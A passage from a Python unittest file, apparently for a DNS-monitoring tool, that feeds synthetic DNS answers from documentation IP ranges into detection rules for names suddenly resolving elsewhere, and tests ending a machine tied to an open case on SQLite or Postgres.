        calm = [answer(begin + datetime.timedelta(hours=h), '198.51.100.7') for h in range(24 * 9)]
        end = begin + datetime.timedelta(days=9)
        self.assertEqual(self.loud(self.findings(self.write('calm.json', calm))), {})
        moved = calm + [answer(end + datetime.timedelta(minutes=m), '203.0.113.66') for m in range(0, 300, 10)]
        self.assertEqual({f['rule'] for f in self.findings(self.write('moved.json', moved))}, {'Known name answered from a place unrelated to it'})
        lied = calm + [answer(end, '203.0.113.66'), answer(end + datetime.timedelta(minutes=2), '198.51.100.7')]
        found = {f['rule']: f['message'] for f in self.findings(self.write('lied.json', lied))}
        self.assertIn('login.example.com A leads to 198.51.0.0/16 again', found['Name answered from elsewhere for a time'])

    def test_a_machine_of_an_open_case_is_ended(self):
        self.check_open_case(self.temp / 'cases.db')


@unittest.skipUnless('OnPostgres' in sys.argv, 'of the suite stores')
class OnPostgres(Made):
    def test_a_machine_of_an_open_case_is_ended(self):
        why = postgres.missing()
        if why:
            self.skipTest(why)
        server = postgres.Server()
        self.addCleanup(server.stop)
        self.check_open_case(server.new_database())


if __name__ == '__main__':
    unittest.main(verbosity=2)
